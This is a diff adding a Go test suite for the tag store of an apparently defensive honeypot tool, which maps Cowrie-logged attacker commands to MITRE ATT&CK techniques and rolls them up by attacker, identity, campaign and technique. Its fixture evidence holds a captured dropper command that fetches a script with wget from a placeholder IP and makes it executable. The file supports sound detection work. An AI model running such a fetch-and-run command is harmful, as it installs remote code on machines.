@@ -1,0 +1,283 @@
+package storetest
+
+import (
+	"context"
+	"fmt"
+	"slices"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+
+	"ttpctl/internal/event"
+	"ttpctl/internal/store"
+)
+
+// A TagFixture is one repository of tags under the suite.
+type TagFixture struct {
+	store.Tags
+	LinkCampaigns func(context.Context, []store.CampaignLink) (added int, err error)
+}
+
+// Tags runs the suite of [store.Tags] over repositories that fixture makes.
+func Tags(t *testing.T, fixture func(t *testing.T) TagFixture) {
+	for name, test := range map[string]func(*testing.T, TagFixture){
+		"insert": testTagsInsert, "round trip": testTagsRoundTrip, "rollups": testTagsRollups, "techniques": testTagsTechniques,
+		"subjects": testTagsSubjects, "sub-techniques": testTagsSubTechniques, "pages": testTagsPages,
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			test(t, fixture(t))
+		})
+	}
+}
+
+// SomeTags returns n tags, numbered from first, of the shape that a Cowrie log
+// gives: no identity, a session of about 12 tags, 200 attackers.
+func SomeTags(first, n int) []event.Tag {
+	tags := make([]event.Tag, n)
+	for i := range tags {
+		id := first + i
+		source := fmt.Sprintf("cmd_%08d", id)
+		technique := fmt.Sprintf("T%04d", 1000+id%60)
+		rule := fmt.Sprintf("R%04d", id%62)
+		tags[i] = event.Tag{
+			UUID:       event.TagUUID("command", source, rule, 1, technique, technique+".001"),
+			SourceKind: "command", SourceID: source,
+			AttackerUUID: fmt.Sprintf("3a90f681-a007-5d06-8036-%012d", id/12%200),
+			SessionID:    event.Some(fmt.Sprintf("session-%d", id/12)), DeckyID: event.Some("decky-1"),
+			Tactic: "TA0002", Technique: technique, SubTechnique: technique + ".001", Confidence: 0.85,
+			RuleID: rule, RuleVersion: 1,
+			Evidence:      []byte(`{"command_text":"cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh","matched":"wget http"}`),
+			AttackRelease: "enterprise-v19.1", MitreURL: "https://attack.mitre.org/techniques/" + technique + "/001",
+			ObservedAt: "2026-11-22T10:00:00Z",
+		}
+	}
+	return tags
+}
+
+// NamedTag returns tag number i with the anchors given.
+func NamedTag(i int, attacker, identity string) event.Tag {
+	tag := SomeTags(i, 1)[0]
+	tag.AttackerUUID, tag.IdentityUUID = attacker, identity
+	return tag
+}
+
+func insert(t *testing.T, f TagFixture, tags ...event.Tag) store.Inserted {
+	t.Helper()
+	in, err := f.Insert(t.Context(), tags)
+	if err != nil {
+		t.Fatalf("Insert() error = %v", err)
+	}
+	return in
+}
+
+func details(t *testing.T, f TagFixture, scope store.Scope) []store.StoredTag {
+	t.Helper()
+	tags, err := f.Details(t.Context(), scope, store.Page{})
+	if err != nil {
+		t.Fatalf("Details(%v) error = %v", scope, err)
+	}
+	return tags
+}
+
+func testTagsInsert(t *testing.T, f TagFixture) {
+	low := NamedTag(3, "a", "")
+	low.Confidence = 0.2999
+	edge := NamedTag(4, "a", "")
+	edge.Confidence = event.Floor
+	tags := []event.Tag{NamedTag(1, "a", ""), low, NamedTag(2, "", "i"), NamedTag(1, "b", ""), edge}
+	want := store.Inserted{New: []int{0, 2, 4}, Duplicates: 1, BelowFloor: 1}
+	if diff := cmp.Diff(want, insert(t, f, tags...)); diff != "" {
+		t.Errorf("Insert() (-want +got):\n%s", diff)
+	}
+	want = store.Inserted{Duplicates: 4, BelowFloor: 1}
+	if diff := cmp.Diff(want, insert(t, f, tags...)); diff != "" {
+		t.Errorf("replay (-want +got):\n%s", diff)
+	}
+	if in := insert(t, f); len(in.New) != 0 {
+		t.Errorf("Insert() of nothing = %v", in)
+	}
+}
+
+// A tag comes out as it went in, to the byte.
+func testTagsRoundTrip(t *testing.T, f TagFixture) {
+	bare := NamedTag(1, "", "identity")
+	bare.SessionID, bare.DeckyID, bare.SubTechnique, bare.ObservedAt = event.OptString{}, event.OptString{}, "", ""
+	odd := NamedTag(2, "a'b\x00c", "ü")
+	odd.SessionID, odd.SourceID, odd.Evidence = event.Some(""), "\xff|'--", []byte(`{"command_text":"\u0000"}`)
+	odd.Confidence = 0.3001
+	insert(t, f, bare, odd)
+	got := details(t, f, store.Scope{})
+	if len(got) != 2 {
+		t.Fatalf("%d tags, want 2", len(got))
+	}
+	for i, want := range []event.Tag{odd, bare} {
+		if diff := cmp.Diff(want, got[i].Tag); diff != "" {
+			t.Errorf("tag %d (-want +got):\n%s", i, diff)
+		}
+		if got[i].CreatedAt.IsZero() {
+			t.Errorf("tag %d has no created_at", i)
+		}
+	}
+}
+
+// fillRollups stores two attackers that one identity ties together, one that
+// stands alone, and findings anchored to identities only.
+func fillRollups(t *testing.T, f TagFixture) {
+	t.Helper()
+	loner := event.IdentityUUID("c").String()
+	insert(t, f,
+		NamedTag(1, "a", ""), NamedTag(2, "a", "I"), NamedTag(3, "b", "I"), NamedTag(4, "b", ""),
+		NamedTag(5, "", "I"), NamedTag(6, "c", ""), NamedTag(7, "", loner), NamedTag(8, "", "J"),
+	)
+	for campaign, ids := range map[string][]string{"spring": {"I", "J"}, "autumn": {loner, "nobody"}} {
+		var links []store.CampaignLink
+		for _, id := range append(ids, ids[0]) {
+			links = append(links, store.CampaignLink{Campaign: campaign, Identity: id})
+		}
+		if n, err := f.LinkCampaigns(t.Context(), links); err != nil || n != 2 {
+			t.Errorf("LinkCampaigns(%v) = %d, %v, want 2", links, n, err)
+		}
+	}
+}
+
+func testTagsRollups(t *testing.T, f TagFixture) {
+	fillRollups(t, f)
+	loner := event.IdentityUUID("c").String()
+	for _, c := range []struct {
+		scope store.Scope
+		want  []int // numbers of the tags
+	}{
+		{store.Scope{}, []int{1, 2, 3, 4, 5, 6, 7, 8}},
+		{store.Scope{By: store.ByAttacker, ID: "a"}, []int{1, 2}},
+		{store.Scope{By: store.ByIdentity, ID: "I"}, []int{1, 2, 3, 4, 5}},
+		{store.Scope{By: store.ByIdentity, ID: "J"}, []int{8}},
+		{store.Scope{By: store.ByIdentity, ID: loner}, []int{6, 7}},
+		{store.Scope{By: store.ByIdentity, ID: event.IdentityUUID("a").String()}, []int{1, 2}},
+		{store.Scope{By: store.BySession, ID: "session-0"}, []int{1, 2, 3, 4, 5, 6, 7, 8}},
+		{store.Scope{By: store.ByCampaign, ID: "spring"}, []int{1, 2, 3, 4, 5, 8}},
+		{store.Scope{By: store.ByCampaign, ID: "autumn"}, []int{6, 7}},
+		{store.Scope{By: store.ByRule, ID: "R0003"}, []int{3}},
+		{store.Scope{By: store.ByTechnique, ID: "T1004"}, []int{4}},
+		{store.Scope{By: store.ByTechnique, ID: "T1004.001"}, []int{4}},
+		{store.Scope{By: store.ByTechnique, ID: "T1004.002"}, nil},
+		{store.Scope{By: store.ByAttacker, ID: "nobody"}, nil},
+		{store.Scope{By: store.ByAttacker, ID: ""}, nil},
+		{store.Scope{By: store.ByCampaign, ID: ""}, nil},
+	} {
+		var got []int
+		for _, tag := range details(t, f, c.scope) {
+			var n int
+			if _, err := fmt.Sscanf(tag.SourceID, "cmd_%d", &n); err != nil {
+				t.Fatal(err)
+			}
+			got = append(got, n)
+		}
+		newestFirst := slices.Clone(c.want)
+		slices.Reverse(newestFirst)
+		if !slices.Equal(got, newestFirst) {
+			t.Errorf("Details(%v) = %v, want %v", c.scope, got, newestFirst)
+		}
+		techniques, err := f.Techniques(t.Context(), c.scope)
+		if err != nil || len(techniques) != len(c.want) {
+			t.Errorf("Techniques(%v) = %d (%v), want %d", c.scope, len(techniques), err, len(c.want))
+		}
+	}
+}
+
+func testTagsTechniques(t *testing.T, f TagFixture) {
+	tags := []event.Tag{NamedTag(1, "a", ""), NamedTag(2, "a", ""), NamedTag(3, "a", "")}
+	for i := range tags {
+		tags[i].Technique, tags[i].SubTechnique, tags[i].Tactic = "T1059", "T1059.004", "TA0002"
+		tags[i].Confidence = 0.5 + float64(i)/10
+	}
+	tags[1].ObservedAt = "2026-11-22T11:00:00.5+02:00" // 09:00:00.5 UTC
+	tags[2].SubTechnique = ""
+	insert(t, f, tags...)
+	got, err := f.Techniques(t.Context(), store.Scope{By: store.ByAttacker, ID: "a"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	at := time.Date(2026, 11, 22, 10, 0, 0, 0, time.UTC)
+	want := []store.TechniqueCount{
+		{Tactic: "TA0002", Technique: "T1059", SubTechnique: "", Tags: 1, Rules: 1, Confidence: 0.7, First: at, Last: at},
+		{Tactic: "TA0002", Technique: "T1059", SubTechnique: "T1059.004", Tags: 2, Rules: 2, Confidence: 0.6, First: at.Add(-time.Hour + 500*time.Millisecond), Last: at},
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("Techniques() (-want +got):\n%s", diff)
+	}
+}
+
+func testTagsSubjects(t *testing.T, f TagFixture) {
+	fillRollups(t, f)
+	loner := event.IdentityUUID("c").String()
+	for _, c := range []struct {
+		by   store.Dimension
+		want map[string]int // tags by id
+	}{
+		{store.AllTags, map[string]int{}},
+		{store.ByAttacker, map[string]int{"a": 2, "b": 2, "c": 1}},
+		{store.ByIdentity, map[string]int{"I": 5, "J": 1, loner: 2}},
+		{store.ByCampaign, map[string]int{"spring": 6, "autumn": 2}},
+		{store.BySession, map[string]int{"session-0": 8}},
+		{store.ByRule, map[string]int{"R0001": 1, "R0002": 1, "R0003": 1, "R0004": 1, "R0005": 1, "R0006": 1, "R0007": 1, "R0008": 1}},
+		{store.ByTechnique, map[string]int{"T1001": 1, "T1002": 1, "T1003": 1, "T1004": 1, "T1005": 1, "T1006": 1, "T1007": 1, "T1008": 1}},
+	} {
+		ss, err := f.Subjects(t.Context(), c.by)
+		if err != nil {
+			t.Errorf("Subjects(%d) error = %v", c.by, err)
+		}
+		got := map[string]int{}
+		for _, s := range ss {
+			got[s.ID] = s.Tags
+			if s.Techniques != s.Tags || s.First.Year() != 2026 || s.Last.Before(s.First) {
+				t.Errorf("Subjects(%d): %+v, want as many techniques as tags", c.by, s)
+			}
+		}
+		if diff := cmp.Diff(c.want, got); diff != "" {
+			t.Errorf("Subjects(%d) (-want +got):\n%s", c.by, diff)
+		}
+	}
+}
+
+// A technique and its sub-technique are two, here as in the table of tag.
+func testTagsSubTechniques(t *testing.T, f TagFixture) {
+	tags := []event.Tag{NamedTag(1, "a", ""), NamedTag(2, "a", ""), NamedTag(3, "a", "")}
+	for i, sub := range []string{"", "T1110.001", "T1110.001"} {
+		tags[i].Technique, tags[i].SubTechnique = "T1110", sub
+	}
+	insert(t, f, tags...)
+	ss, err := f.Subjects(t.Context(), store.ByAttacker)
+	if err != nil || len(ss) != 1 || ss[0].Techniques != 2 {
+		t.Errorf("Subjects(store.ByAttacker) = %+v, %v, want one attacker with 2 techniques", ss, err)
+	}
+}
+
+func testTagsPages(t *testing.T, f TagFixture) {
+	for i := range 5 { // two tags of one instant each
+		insert(t, f, SomeTags(2*i, 2)...)
+	}
+	var got []string
+	page := store.Page{Limit: 3}
+	for {
+		tags, err := f.Details(t.Context(), store.Scope{}, page)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(tags) == 0 {
+			break
+		}
+		for _, tag := range tags {
+			got = append(got, tag.SourceID)
+		}
+		page.After = &tags[len(tags)-1]
+	}
+	var want []string
+	for i := range 10 {
+		want = append(want, fmt.Sprintf("cmd_%08d", 9-i))
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("pages (-want +got):\n%s", diff)
+	}
+}
